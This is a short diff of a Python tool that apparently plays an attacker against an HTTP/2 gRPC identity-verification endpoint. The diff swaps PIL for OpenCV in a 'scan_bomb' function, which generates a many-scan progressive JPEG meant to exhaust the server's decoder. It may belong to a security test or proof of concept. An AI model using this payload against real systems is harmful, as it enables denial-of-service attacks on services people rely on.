@@ -8,7 +8,6 @@ attacker would) and feeds request bytes as HTTP/2 flow control allows.
 
 from __future__ import annotations
 
-import io
 import re
 import select
 import socket
@@ -17,12 +16,12 @@ import threading
 import time
 from dataclasses import dataclass, field
 
+import cv2
 import h2.config
 import h2.connection
 import h2.events
 import h2.exceptions
 import numpy as np
-from PIL import Image
 
 VERIFY_PATH = "/idv.v1.IdentityVerification/Verify"
 
@@ -189,10 +188,8 @@ def scan_bomb(target_bytes: int = 500 * 1024, width: int = 1920, height: int = 1
     whole coefficient buffer again for each one (about 0.25 ms per scan at 1920x1080).
     """
     rng = np.random.default_rng(0)
-    image = rng.integers(0, 255, (height // 8, width // 8, 3)).astype(np.uint8)
-    buffer = io.BytesIO()
-    Image.fromarray(image).resize((width, height)).save(buffer, "JPEG", quality=50, progressive=True)
-    data = buffer.getvalue()
+    image = cv2.resize(rng.integers(0, 255, (height // 8, width // 8, 3)).astype(np.uint8), (width, height))
+    data = cv2.imencode(".jpg", image, [cv2.IMWRITE_JPEG_QUALITY, 50, cv2.IMWRITE_JPEG_PROGRESSIVE, 1])[1].tobytes()
     last = [m.start() for m in re.finditer(rb"\xff\xda", data)][-1]
     (length,) = struct.unpack(">H", data[last + 2 : last + 4])
     scan = data[last : last + 2 + length]
